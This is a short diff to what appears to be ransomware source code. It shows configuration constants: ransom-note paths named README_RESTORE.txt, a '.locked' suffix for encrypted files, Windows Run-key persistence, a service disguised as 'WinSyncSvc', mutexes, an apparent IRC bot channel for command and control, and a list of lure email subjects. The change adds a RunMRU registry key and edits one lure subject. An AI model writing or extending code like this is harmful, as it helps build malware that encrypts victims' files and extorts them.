@@ -43,6 +43,7 @@ HOST_PATH = r"C:\Windows\explorer.exe"
 NOTE_PATHS = (rf"{PROFILE}\Desktop\README_RESTORE.txt", rf"{PROFILE}\Documents\README_RESTORE.txt")
 LOCKED_SUFFIX = ".locked"
 RUN_KEY = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"
+RECENT_KEY = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
 MUTEX, STAGE_MUTEX = r"Local\inv-7f3a9c", r"Global\WinSync-1"
 SERVICE = "WinSyncSvc"
 BOT_NAME, CHANNEL = "frontdesk-7f3a", "#accounts"
@@ -208,7 +209,7 @@ def script_file() -> bytes:
 
 _SUBJECTS = (
     "budget",
-    "offer",
+    "café",
     "minutes",
     "contract",
     "holidays",
